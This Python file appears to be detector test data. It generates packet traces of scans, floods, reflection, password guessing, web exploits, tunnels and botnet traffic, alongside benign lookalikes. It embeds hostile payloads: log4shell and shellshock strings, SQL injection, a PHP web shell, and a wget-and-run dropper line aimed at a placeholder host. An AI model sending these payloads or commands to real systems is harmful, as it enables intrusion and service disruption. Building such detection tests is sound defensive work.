# SPDX-License-Identifier: Apache-2.0
"""Attacks of many kinds as packets, and honest traffic that looks a little like them."""
import struct
import uuid

from packets import dns, raw

ATTACKS, HONEST = [], []


def attack(verdict, within=10.0):
    """`verdict` is the class that it shall be given, or the sign; None: any."""
    def add(fn):
        ATTACKS.append((fn.__name__, verdict, within, fn))
        return fn
    return add


def kind(verdict, name, make, *what, within=10.0, **how):
    """An attack that is `make` with these arguments."""
    ATTACKS.append((name, verdict, within, lambda w: make(w, *what, **how)))


def honest(fn):
    HONEST.append((fn.__name__, fn))
    return fn


# ---- scans ---------------------------------------------------------------------------

def scan(w, flags, reply, n=60, gap=0.02, src=0, six=False):
    a, b = (w.host6(src), w.host6(200)) if six else (w.host(src), w.host(200))
    for i in range(n):
        w.tcp(i * gap, a, 40000, b, 20 + i * 7, flags)
        if reply:
            w.tcp(i * gap + 0.001, b, 20 + i * 7, a, 40000, reply, ack=2)


kind("Probe", "syn_scan", scan, "S", "RA")
kind("Probe", "syn_scan_filtered", scan, "S", "")
kind("Probe", "syn_scan_6", scan, "S", "RA", six=True)


@attack("Probe")
def connect_scan(w):
    for i in range(40):
        w.talk(i * 0.05, w.host(0), 41000 + i, w.host(9), 1000 + i, [], close="R", gap=0.001)


@attack("Probe")
def scan_of_which_answers_are_heard(w):
    for i in range(60):
        w.tcp(i * 0.02, w.host(9), 20 + i * 7, w.host(0), 40000, "RA", ack=2)


kind("Probe", "ack_scan", scan, "A", "R")
kind("Probe", "ack_scan_filtered", scan, "A", "")
kind("Probe", "maimon_scan", scan, "FA", "R")
kind("Probe", "null_scan", scan, "", "RA")
kind("Probe", "fin_scan", scan, "F", "RA")
kind("Probe", "xmas_scan", scan, "FPU", "RA")


@attack("Probe")
def decoy_scan(w):
    for decoy in range(5):
        scan(w, "S", "RA", n=30, src=decoy)


kind("Probe", "polite_scan", scan, "S", "RA", n=40, gap=0.4)
kind("Probe", "sneaky_scan", scan, "S", "RA", n=20, gap=15, within=200)


@attack("Probe")
def udp_scan(w):
    for i in range(60):
        w.udp(i * 0.05, w.host(0), 40000, w.host(9), 100 + i * 13)
        w.icmp(i * 0.05 + 0.001, w.host(9), w.host(0), 3, 3, data=b"E" * 36)


@attack("Probe")
def protocol_scan(w):
    for i, proto in enumerate((2, 4, 8, 9, 33, 41, 46, 47, 50, 51, 88, 89, 94, 103, 108, 115)):
        w.ip(i * 0.1, w.host(0), w.host(9), proto, b"\0" * 8)


@attack("Probe")
def fragmented_scan(w):
    for i in range(60):
        body = w.tcp_bytes(w.host(0), 40000, w.host(9), 20 + i * 7, "S")
        for at in range(0, len(body), 8):
            more = 0x2000 if at + 8 < len(body) else 0
            w.ip(i * 0.05 + at * 1e-4, w.host(0), w.host(9), 6, body[at:at + 8],
                 fragment=more | at // 8, ident=1000 + i)


@attack("Probe")
def service_sweep(w):
    for i in range(60):
        w.tcp(i * 0.02, w.host(0), 40000, w.host(20 + i), 445, "S")


@attack("Probe")
def sweep_of_open_ports(w):
    for i in range(40):
        w.talk(i * 0.05, w.host(0), 41000 + i, w.host(20 + i), 443, [], close="R", gap=0.001)


@attack("Probe")
def sctp_scan(w):
    for i in range(60):
        w.ip(i * 0.05, w.host(0), w.host(9), 132,
             struct.pack(">HHII", 40000, 20 + i * 7, 0, 0) + b"\1\0\0\x14" + b"\1" * 16)


@attack("Probe")
def ping_sweep(w):
    for i in range(60):
        w.icmp(i * 0.02, w.host(0), w.host(20 + i), 8)


@attack("Probe")
def timestamp_sweep(w):
    for i in range(60):
        w.icmp(i * 0.02, w.host(0), w.host(20 + i), 13, data=b"\0" * 12)


@attack("Probe")
def arp_sweep(w):
    for i in range(80):
        w.arp(i * 0.02, 1, w.host(0), w.host(20 + i))


@attack("Probe")
def neighbour_sweep(w):
    for i in range(60):
        target = w.host6(5000 + i)
        w.icmp6(i * 0.02, w.host6(0), "ff02::1:ff00:%x" % (5001 + i), 135,
                b"\0" * 4 + raw(target))


@attack("Probe")
def snmp_sweep(w):
    for i in range(40):
        w.udp(i * 0.02, w.host(0), 40000, w.host(20 + i), 161, b"\x30\x26\x02\x01\x00\x04\x06public")


@attack("Probe")
def sip_sweep(w):
    for i in range(40):
        w.udp(i * 0.02, w.host(0), 5060, w.host(20 + i), 5060, b"OPTIONS sip:100@x SIP/2.0\r\n\r\n")


@attack("Probe")
def search_for_pages(w):
    for i in range(20):
        lines = []
        for k in range(5):
            lines += [(True, b"GET /admin%d HTTP/1.1\r\nHost: x\r\n\r\n" % (5 * i + k)),
                      (False, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")]
        w.talk(i * 0.3, w.host(0), 41000 + i, w.host(9), 80, lines)


# ---- floods --------------------------------------------------------------------------

def spoofed(w, i):
    return "%d.%d.%d.%d" % (w.random.randrange(11, 200), w.random.randrange(256),
                            w.random.randrange(256), i % 254 + 1)


def tcp_flood(w, flags, n=1000, data=b"", ports=False, one=False, same=False):
    for i in range(n):
        src = w.host(0) if one else spoofed(w, i)
        w.tcp(i * 0.002, src, 4000 if same else 1024 + i, w.host(9),
              w.random.randrange(1, 65535) if ports else 80, flags, data, seq=i * 77)


kind("DoS", "syn_flood_spoofed", tcp_flood, "S")
kind("DoS", "syn_flood_one_source", tcp_flood, "S", one=True)
kind("DoS", "syn_flood_random_ports", tcp_flood, "S", ports=True)
kind("DoS", "syn_flood_one_connection", tcp_flood, "S", one=True, same=True)
kind("DoS", "syn_flood_with_data", tcp_flood, "S", data=b"x" * 500)


@attack("DoS")
def syn_flood_6(w):
    for i in range(800):
        w.tcp(i * 0.002, "2001:db8:%x::1" % i, 1024 + i, w.host6(9), 443, "S")


kind("DoS", "ack_flood_spoofed", tcp_flood, "A")
kind("DoS", "ack_flood_random_ports", tcp_flood, "A", ports=True)
kind("DoS", "ack_flood_one_connection", tcp_flood, "A", one=True, same=True, n=2000)
kind("DoS", "rst_flood", tcp_flood, "R")
kind("DoS", "fin_ack_flood", tcp_flood, "FA")
kind("DoS", "push_flood_with_data", tcp_flood, "PA", data=b"x" * 100)
kind("DoS", "synack_flood", tcp_flood, "SA")


@attack("DoS")
def synack_flood_answered(w):
    for i in range(400):
        w.tcp(i * 0.005, w.outside(i % 60), 443, w.host(9), 1024 + i, "SA", ack=1)
        w.tcp(i * 0.005 + 0.0001, w.host(9), 1024 + i, w.outside(i % 60), 443, "R", seq=1)


kind(None, "fin_flood", tcp_flood, "F")
kind(None, "xmas_flood", tcp_flood, "FPU", one=True)
kind(None, "xmas_flood_one_connection", tcp_flood, "FPU", one=True, same=True)


@attack("DoS")
def connection_flood(w):
    for i in range(120):
        w.talk(i * 0.03, w.host(0), 20000 + i, w.host(9), 9000, [], close="R", gap=0.001)


@attack("DoS")
def udp_flood_one_port(w):
    for i in range(8000):
        w.udp(i * 0.001, w.host(0), 4000, w.host(9), 9999, b"x" * 200)


@attack("DoS")
def udp_flood_random_ports(w):
    for i in range(1000):
        w.udp(i * 0.002, w.host(0), 4000, w.host(9), w.random.randrange(1, 65535), b"x" * 200)


@attack("DoS")
def udp_flood_spoofed(w):
    for i in range(1000):
        w.udp(i * 0.002, spoofed(w, i), 4000 + i, w.host(9), 80, b"x" * 200)


@attack("DoS")
def udp_flood_several_ports(w):
    for i in range(8000):
        w.udp(i * 0.001, w.host(0), 4000, w.host(9), 5000 + i % 40, b"x" * 200)


@attack("DoS")
def udp_fragment_flood(w):
    for i in range(1000):
        w.ip(i * 0.002, spoofed(w, i), w.host(9), 17, b"x" * 512, fragment=185)


@attack("fragment-flood")
def fragment_flood(w):
    for i in range(4000):
        w.ip(i * 0.001, w.host(0), w.host(9), 6, b"x" * 512, fragment=185, ident=1 + i)


@attack("udp-babble")
def babble_at_a_name_server(w):
    for i in range(1000):
        w.udp(i * 0.002, w.host(0), 4000, w.host(9), 53, b"\xff" * 8)


@attack("DoS")
def ping_flood(w):
    for i in range(2000):
        w.icmp(i * 0.002, w.host(0), w.host(9), 8, seq=i)


@attack("DoS")
def ping_flood_spoofed(w):
    for i in range(1000):
        w.icmp(i * 0.002, spoofed(w, i), w.host(9), 8)


@attack("DoS")
def black_nurse(w):
    for i in range(1000):
        w.icmp(i * 0.005, w.host(0), w.host(9), 3, 3, data=b"E" * 28)


@attack("DoS")
def smurf_at_the_amplifier(w):
    for i in range(50):
        w.icmp(i * 0.05, "203.0.113.%d" % w.net, "10.%d.0.255" % w.net, 8, seq=i)


@attack("DoS")
def smurf_of_ipv6(w):
    for i in range(200):
        w.icmp6(i * 0.01, w.host6(9), "ff02::1", 128, b"\0\1" + struct.pack(">H", i) + b"x" * 32)


@attack("DoS")
def smurf_at_the_victim(w):
    for i in range(400):
        w.icmp(i * 0.005, w.host(20 + i % 200), w.outside(9), 0)


@attack("DoS")
def fraggle(w):
    for i in range(50):
        w.udp(i * 0.05, "203.0.113.%d" % w.net, 7, "10.%d.0.255" % w.net, 19, b"x" * 32)


@attack("DoS")
def land(w):
    for i in range(5):
        w.tcp(i, w.host(9), 139, w.host(9), 139, "S")


@attack("DoS")
def teardrop(w):
    for i in range(5):
        w.ip(i, w.host(0), w.host(9), 17, b"x" * 36, fragment=0x2000, ident=242 + i)
        w.ip(i + 0.01, w.host(0), w.host(9), 17, b"x" * 4, fragment=3, ident=242 + i)


@attack("overlapping-fragments")
def fragments_that_say_anew(w):
    for i in range(5):
        w.ip(i, w.host(0), w.host(9), 17, b"x" * 40, fragment=0x2000, ident=242 + i)
        w.ip(i + 0.01, w.host(0), w.host(9), 17, b"y" * 40, fragment=3, ident=242 + i)


@attack("DoS")
def ping_of_death(w):
    for i in range(3):
        for k in range(46):
            more = 0x2000 if k < 45 else 0
            w.ip(i + k * 0.001, w.host(0), w.host(9), 1, b"x" * 1480,
                 fragment=more | k * 185, ident=300 + i)


@attack("DoS")
def gre_flood(w):
    for i in range(500):
        w.ip(i * 0.004, spoofed(w, i), w.host(9), 47, b"\0\0\x88\xbe" + b"x" * 400)


@attack("DoS")
def router_flood(w):
    for i in range(200):
        w.icmp6(i * 0.01, "fe80::%x:%x" % (w.net, i + 1), "ff02::1", 134,
                struct.pack(">BBHII", 64, 0, 1800, 0, 0))


@attack("DoS")
def neighbour_flood(w):
    for i in range(600):
        w.icmp6(i * 0.01, "fe80::%x:%x" % (w.net, i + 1), w.host6(9), 136, b"\x60\0\0\0" + b"x" * 16)


@attack("DoS")
def dhcp_starvation(w):
    for i in range(200):
        body = struct.pack(">BBBBIHH", 1, 1, 6, 0, i, 0, 0) + b"\0" * 16 + bytes(
            [2, 0, w.net, 0, i // 256, i % 256]) + b"\0" * 202 + b"\x63\x82\x53\x63\x35\x01\x01\xff"
        w.udp(i * 0.05, "0.0.0.0", 68, "255.255.255.255", 67, body)


@attack("DoS")
def http_flood(w):
    for i in range(200):
        w.talk(i * 0.03, w.host(0), 20000 + i, w.host(9), 80,
               [(True, b"GET /?%d HTTP/1.1\r\nHost: x\r\n\r\n" % i),
                (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")], gap=0.001)


@attack("DoS")
def http_flood_kept_alive(w):
    for i in range(8):
        lines = []
        for k in range(60):
            lines += [(True, b"GET /?%d HTTP/1.1\r\nHost: x\r\nX: %s\r\n\r\n" % (k, b"y" * 40)),
                      (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")]
        w.talk(i * 0.3, w.host(0), 20000 + i, w.host(9), 80, lines, gap=0.002)


@attack("DoS")
def tls_flood(w):
    hello = bytes.fromhex("160301002f0100002b0303") + b"r" * 32 + bytes.fromhex("0000021301010000")
    for i in range(300):
        w.talk(i * 0.02, w.host(0), 20000 + i, w.host(9), 443,
               [(True, hello), (False, b"\x15\x03\x01\0\x02\x02\x28")], gap=0.001)


def stay(w, lines, port=80, n=60, window=8192):
    for i in range(n):
        w.talk(i * 0.05, w.host(0), 20000 + i, w.host(9), port, lines, close="", gap=0.001,
               window=window)
        w.tcp(5 + i * 0.05, w.host(0), 20000 + i, w.host(9), port, "PA", b"X-a: b\r\n",
              seq=1001 + sum(len(d) for mine, d in lines if mine), ack=5001, window=window)


kind("DoS", "slow_headers", stay, [(True, b"GET / HTTP/1.1\r\nHost: x\r\n")], within=30)
kind("DoS", "slow_bodies", stay,
     [(True, b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\na")],
     port=8000, within=30)
kind("DoS", "slow_reading", stay,
     [(True, b"GET /big HTTP/1.1\r\nHost: x\r\n\r\n"),
      (False, b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n" + b"x" * 500)],
     window=0, within=30)


@attack("DoS")
def sip_flood(w):
    for i in range(500):
        w.udp(i * 0.01, w.host(0), 5060, w.host(9), 5060,
              b"INVITE sip:1@x SIP/2.0\r\nVia: SIP/2.0/UDP x\r\nCall-ID: %d\r\n\r\n" % i)


# ---- reflection ----------------------------------------------------------------------

AMPLIFIED = {
    "dns": (53, dns("example.org", 255, answer=b"x" * 400)),
    "ntp": (123, b"\xd7\x00\x03\x2a" + b"x" * 436),
    "ssdp": (1900, b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n\r\n"),
    "memcached": (11211, b"\0\0\0\0\0\1\0\0VALUE a 0 1400\r\n" + b"x" * 1300),
    "cldap": (389, b"\x30\x84\0\0\x0b\xb8" + b"x" * 1200),
    "chargen": (19, b"!\"#$%&'()*+,-./0123456789" * 40),
    "tftp": (69, b"\0\3\0\1" + b"x" * 512),
    "snmp": (161, b"\x30\x82\x04\x00" + b"x" * 1000),
    "ws_discovery": (3702, b"<?xml version=\"1.0\"?>" + b"x" * 1000),
    "coap": (5683, b"\x60\x45\0\1\xff" + b"x" * 600),
    "netbios": (137, b"\0\1\x84\0" + b"x" * 180),
    "portmap": (111, b"\0\0\0\1\0\0\0\1" + b"x" * 480),
    "arms": (3283, b"\0\1\3\xe8" + b"x" * 1000),
    "quic": (443, b"\xc0\0\0\0\1" + b"x" * 1195),
    "rdp": (3389, b"\0\0\0\0" + b"x" * 1250),
    "plex": (32414, b"HTTP/1.0 200 OK\r\nName: x\r\n\r\n"),
    "qotd": (17, b"Quote of the day. " * 20),
    "isakmp": (500, b"x" * 200),
    "sip": (5060, b"SIP/2.0 404 Not Found\r\n\r\n"),
    "steam": (27015, b"\xff\xff\xff\xffI" + b"x" * 200),
    "vxworks": (17185, b"x" * 120),
    "ubiquiti": (10001, b"\1\0\0\xa0" + b"x" * 160),
}


def reflected(w, hosts, port, answer):
    for i in range(400):
        w.udp(i * 0.005, w.outside(i % hosts), port, w.host(9), 34567, answer)


for service, said in AMPLIFIED.items():
    for many in (50, 3):
        kind("DoS", "%s_reflection_by_%d" % (service, many), reflected, many, *said)


@attack("DoS")
def tcp_reflection_at_the_victim(w):
    for i in range(400):
        w.tcp(i * 0.01, w.outside(i % 60), 443, w.host(9), 1024 + i, "SA", ack=1)


@attack("long-syn-reflection")
def tcp_reflection_by_six(w):
    for i in range(240):
        w.tcp(i * 0.02, w.outside(i % 6), 443, w.host(9), 1024 + i % 6, "SA", ack=1)


@attack("DoS")
def monlist(w):
    for i in range(20):
        w.udp(i * 0.1, "203.0.113.%d" % w.net, 40000, w.host(9), 123, b"\x17\x00\x03\x2a" + b"\0" * 4)


@attack("DoS")
def questions_for_all_records(w):
    for i in range(200):
        w.udp(i * 0.05, "203.0.113.%d" % w.net, 20000 + i, w.host(9), 53, dns("isc.org", 255, i))
        w.udp(i * 0.05 + 0.001, w.host(9), 53, "203.0.113.%d" % w.net, 20000 + i,
              dns("isc.org", 255, i, b"x" * 900))


# ---- passwords -----------------------------------------------------------------------

REFUSED_BY_FTP = [(False, b"220 FTP ready\r\n"), (True, b"USER a\r\n"),
                  (False, b"331 Password\r\n"), (True, b"PASS b\r\n"),
                  (False, b"530 Login incorrect\r\n")]
SOME_PAGE = (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nno")

# Port, and what is said each time.
GUESSED = {
    "ftp_guessing": (21, REFUSED_BY_FTP),
    "ssh_guessing": (
        22, [(True, b"SSH-2.0-x\r\n"), (False, b"SSH-2.0-OpenSSH_9\r\n"),
             (True, b"\0\0\4\x0c\x04\x14" + b"k" * 1200),
             (False, b"\0\0\4\x0c\x04\x14" + b"k" * 900)]),
    "telnet_guessing": (
        23, [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"), (False, b"Password: "),
             (True, b"admin\r\n"), (False, b"\r\nLogin incorrect\r\n")]),
    "basic_guessing": (
        80, [(True, b"GET /x HTTP/1.1\r\nHost: x\r\nAuthorization: Basic eDp5\r\n\r\n"),
             (False, b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n")]),
    "form_guessing": (
        80, [(True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n"
              b"username=admin&password=letmein"), SOME_PAGE]),
    "form_guessing_in_the_address": (
        80, [(True, b"GET /brute/?username=admin&password=x&Login=Login HTTP/1.1\r\n"
              b"Host: x\r\n\r\n"), SOME_PAGE]),
    "ldap_guessing": (
        389, [(True, b"\x30\x16\x02\x01\x01\x60\x11\x02\x01\x03\x04\x04cn=a\x80\x06secret"),
              (False, b"\x30\x0c\x02\x01\x01\x61\x07\x0a\x01\x31\x04\0\x04\0")]),
}


def guess(w, port, lines):
    for i in range(30):
        w.talk(i * 0.3, w.host(0), 20000 + i, w.host(9), port, lines)


for name, said in GUESSED.items():
    kind("R2L", name, guess, *said)


@attack("slow-guessing", 800)
def guessing_three_a_minute(w):
    for i in range(50):
        w.talk(i * 20, w.host(0), 20000 + i, w.host(9), 21, REFUSED_BY_FTP)


@attack("password-spraying")
def one_password_at_many_sites(w):
    for i in range(30):
        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 80, GUESSED["basic_guessing"][1])


@attack("R2L")
def community_guessing(w):
    for i in range(60):
        w.udp(i * 0.1, w.host(0), 40000, w.host(9), 161,
              b"\x30\x26\x02\x01\x00\x04\x06pass%02d\xa0\x19\x02\x01\x01" % i)


@attack("R2L")
def one_password_at_many_hosts(w):
    for i in range(40):
        w.talk(i * 0.2, w.host(0), 20000 + i, w.host(20 + i), 21, REFUSED_BY_FTP)


@attack("R2L")
def name_poisoning(w):
    for i in range(8):
        w.udp(i * 0.5, w.host(i), 50000 + i, "224.0.0.252", 5355, dns("wpad%d" % i))
        w.udp(i * 0.5 + 0.01, w.host(99), 5355, w.host(i), 50000 + i,
              dns("wpad%d" % i, answer=b"\x0a\0\0\x63"))


# ---- the web -------------------------------------------------------------------------

def ask(w, text):
    w.talk(0, w.host(0), 20000, w.host(9), 80,
           [(True, text), (False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")])


def request(name, text):
    kind("R2L", name, ask, text)


request("log4shell", b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n")
request("log4shell_disguised",
        b"GET / HTTP/1.1\r\nHost: x\r\nX: ${${lower:j}ndi:${lower:l}dap://x/a}\r\n\r\n")
request("shellshock", b"GET /cgi-bin/x HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n")
request("sql_injection", b"GET /?id=1%27+UNION+SELECT+1%2C2 HTTP/1.1\r\nHost: x\r\n\r\n")
request("blind_sql_injection", b"GET /?id=1+AND+SLEEP%285%29 HTTP/1.1\r\nHost: x\r\n\r\n")
request("cross_site_scripting",
        b"GET /?name=%3Cscript%3Econsole.log%28document.cookie%29%3C/script%3E HTTP/1.1\r\nHost: x\r\n\r\n")
request("out_of_the_directory", b"GET /../../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n")
request("web_shell", b"GET /up/s.php?cmd=whoami HTTP/1.1\r\nHost: x\r\n\r\n")
request("web_shell_sent", b"POST /up HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\n"
        b"<?php system($_GET['c']); ?>")
request("php_by_eval", b"POST /vendor/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: x\r\n\r\n")
request("spring4shell", b"POST / HTTP/1.1\r\nHost: x\r\n\r\nclass.module.classLoader.resources=1")
request("router_exploit", b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n\r\n")
request("struts", b"GET / HTTP/1.1\r\nHost: x\r\nContent-Type: %{(#a='multipart/form-data')}\r\n\r\n")


kind("web-scanner", "scanner", ask, b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: sqlmap/1.7\r\n\r\n")


# ---- Windows, names ------------------------------------------------------------------

def call(w, interface, *numbers):
    """Remote calls after a bind (C706, 12.6.4)."""
    said = [(True, b"\5\0\x0b\3\x10\0\0\0\x48\0\0\0\1\0\0\0" + b"\xb8\x10\xb8\x10\0\0\0\0"
             b"\1\0\0\0\0\0\1\0" + uuid.UUID(interface).bytes_le + b"\1\0\0\0" + b"\0" * 20),
            (False, b"\5\0\x0c\3\x10\0\0\0" + b"\0" * 52)]
    for n in numbers:
        said += [(True, b"\5\0\0\3\x10\0\0\0\x40\0\0\0\2\0\0\0\x28\0\0\0\0\0" +
                  struct.pack("<H", n) + b"x" * 40),
                 (False, b"\5\0\2\3\x10\0\0\0" + b"\0" * 24)]
    w.talk(0, w.host(0), 40000, w.host(9), 49152, said)


kind("remote-execution", "service_made", call, "367abb81-9844-35f1-ad32-98f038001003", 12)
kind("forced-login", "printer_bug", call, "12345678-1234-abcd-ef00-0123456789ab", 65)
kind("remote-secrets", "dcsync", call, "e3514235-4b06-11d1-ab04-00c04fc2dcd2", 3)
kind("remote-log-clearing", "log_cleared", call, "82273fdc-e32a-18c3-3f78-827929dc23ea", 0)
kind("remote-enumeration", "shares_listed", call, "4b324fc8-1670-01d3-1278-5a47bf6ee188", 15)
kind("zerologon", "zerologon", call, "12345678-1234-abcd-ef00-01234567cffb", *[4] * 20)


@attack("smb-exploit")
def smb_of_impossible_size(w):
    w.talk(0, w.host(0), 40000, w.host(9), 445,
           [(True, b"\0\0\0\x44\xfeSMB\x40\0" + b"\0" * 58),
            (False, b"\0\0\0\x44\xfeSMB\x40\0" + b"\0" * 58),
            (True, b"\0\0\0\x20\xfcSMB\xff\xff\xff\xff\1\0\0\0\xff\xff\xff\xff" + b"x" * 16)])


@attack("dns-exploit")
def question_for_a_signature(w):
    w.udp(0, w.host(0), 40000, w.host(9), 53, dns("9.example.org", 24))


# ---- tunnels, masters ----------------------------------------------------------------

@attack("Botnet")
def dns_tunnel(w):
    for i in range(80):
        name = "%s.%s.t.example.org" % ("".join(w.random.choices("abcdef0123456789", k=60)),
                                        "".join(w.random.choices("abcdef0123456789", k=30)))
        w.udp(i * 0.1, w.host(0), 30000 + i, w.host(9), 53, dns(name))
        w.udp(i * 0.1 + 0.01, w.host(9), 53, w.host(0), 30000 + i, dns(name, answer=b"\1\2\3\4"))


@attack("Botnet", 700)
def slow_dns_tunnel(w):
    for i in range(100):
        name = "%s.t.example.org" % "".join(w.random.choices("abcdef0123456789", k=60))
        w.udp(i * 6, w.host(0), 30000 + i, w.host(9), 53, dns(name, 16))
        w.udp(i * 6 + 0.01, w.host(9), 53, w.host(0), 30000 + i, dns(name, 16, answer=b"\3abc"))


@attack("Botnet")
def icmp_tunnel(w):
    for i in range(40):
        w.icmp(i * 0.2, w.host(0), w.host(9), 8, seq=i, data=b"q" * (30 + i * 7))
        w.icmp(i * 0.2 + 0.01, w.host(9), w.host(0), 0, seq=i, data=b"a" * (500 + i))


@attack("Botnet", 60)
def made_up_names(w):
    for i in range(60):
        name = "%s.com" % "".join(w.random.choices("bcdfghjklmnpqrstvwxz", k=14))
        w.udp(i * 0.5, w.host(0), 30000 + i, w.host(9), 53, dns(name))
        w.udp(i * 0.5 + 0.01, w.host(9), 53, w.host(0), 30000 + i, dns(name, rcode=3))


@attack("Botnet", 120)
def beacon(w):
    for i in range(15):
        w.talk(i * 10 + w.random.random(), w.host(0), 30000 + i, w.outside(9), 443,
               [(True, b"\x16\x03\x01\0\xc8\1" + b"h" * 200), (False, b"\x16\x03\x03\0\xc8\2" + b"s" * 200)])


@attack("Botnet")
def reverse_shell(w):
    w.talk(0, w.host(0), 30000, w.outside(9), 4444,
           [(False, b"id\n"), (True, b"uid=33(www-data) gid=33(www-data) groups=33\n")])


@attack("Botnet")
def shell_of_windows(w):
    w.talk(0, w.host(0), 30000, w.outside(9), 4444,
           [(True, b"Microsoft Windows [Version 10.0.19045]\r\nC:\\Windows\\system32>")])


@attack("Botnet")
def dropper(w):
    w.talk(0, w.host(0), 30000, w.host(9), 23,
           [(False, b"\xff\xfd\x18login: "), (True, b"root\r\n"),
            (True, b"cd /tmp; wget http://198.51.100.1/m.sh; chmod 777 m.sh; sh m.sh\r\n")])


@attack("Botnet")
def orders_by_irc(w):
    w.talk(0, w.host(0), 30000, w.outside(9), 6667,
           [(True, b"NICK bot|1234\r\nUSER a b c :d\r\n"), (False, b":irc 001 bot|1234 :Welcome\r\n"),
            (True, b"JOIN #cmd\r\n"), (False, b":m!m@m PRIVMSG #cmd :!udpflood 203.0.113.9 80 60\r\n")])


@attack("Probe")
def arp_spoofing(w):
    liar = b"\x02\xbb\0\0\0" + bytes([w.net])
    w.arp(0, 1, w.host(0), w.host(1))
    w.arp(0.001, 2, w.host(1), w.host(0), to=b"\x02\0" + b"\x0a" + bytes([w.net, 0, 1]))
    for i in range(20):
        w.arp(1 + i, 2, w.host(1), w.host(0), mac=liar, to=b"\x02\0" + b"\x0a" + bytes([w.net, 0, 1]))


# ---- honest --------------------------------------------------------------------------

@honest
def a_browser(w):
    for i in range(12):
        lines = []
        for k in range(5):
            lines += [(True, b"GET /%d HTTP/1.1\r\nHost: x\r\n\r\n" % k),
                      (False, b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n" + b"x" * 900)]
        w.talk(i * 0.5, w.host(0), 20000 + i, w.host(9), 80, lines)


@honest
def a_login(w):
    w.talk(0, w.host(0), 20000, w.host(9), 80,
           [(True, b"POST /login HTTP/1.1\r\nHost: x\r\n\r\nusername=a&password=b"),
            (False, b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n")])


@honest
def pings(w):
    for i in range(60):
        w.icmp(i, w.host(0), w.host(9), 8, seq=i)
        w.icmp(i + 0.01, w.host(9), w.host(0), 0, seq=i)


@honest
def pings_to_all(w):
    for i in range(30):
        w.icmp(i, w.host(0), "10.%d.0.255" % w.net, 8, seq=i)


@honest
def a_router(w):
    for i in range(20):
        w.icmp6(i * 10, "fe80::%x:1" % w.net, "ff02::1", 134, struct.pack(">BBHII", 64, 0, 1800, 0, 0))


@honest
def hosts_that_start(w):
    for i in range(12):
        for k in range(2):
            w.udp(i * 5 + k, "0.0.0.0", 68, "255.255.255.255", 67,
                  struct.pack(">BBBBIHH", 1, 1, 6, 0, i, 0, 0) + b"\0" * 228)


@honest
def names(w):
    for i in range(60):
        w.udp(i * 0.5, w.host(0), 30000 + i, w.host(9), 53, dns("host%d.example.org" % i))
        w.udp(i * 0.5 + 0.01, w.host(9), 53, w.host(0), 30000 + i,
              dns("host%d.example.org" % i, answer=b"\1\2\3\4"))


@honest
def mail_every_minute(w):
    for i in range(20):
        w.talk(i * 60, w.host(0), 30000 + i, w.host(9), 110,
               [(False, b"+OK\r\n"), (True, b"USER a\r\n"), (False, b"+OK\r\n"), (True, b"PASS b\r\n"),
                (False, b"+OK\r\n"), (True, b"QUIT\r\n"), (False, b"+OK\r\n")])


@honest
def a_server_that_is_down(w):
    for i in range(30):
        w.tcp(i * 5, w.host(0), 30000 + i, w.host(9), 80, "S")
        w.tcp(i * 5 + 0.001, w.host(9), 80, w.host(0), 30000 + i, "RA", ack=2)


@honest
def a_traceroute(w):
    for i in range(30):
        w.udp(i * 0.1, w.host(0), 40000, w.outside(9), 33434 + i, b"x" * 32)
        asked = w.packets[-1][1][14:42]  # RFC 792: its header and 8 bytes more
        w.icmp(i * 0.1 + 0.05, w.outside(20 + i), w.host(0), 11, 0, data=asked)
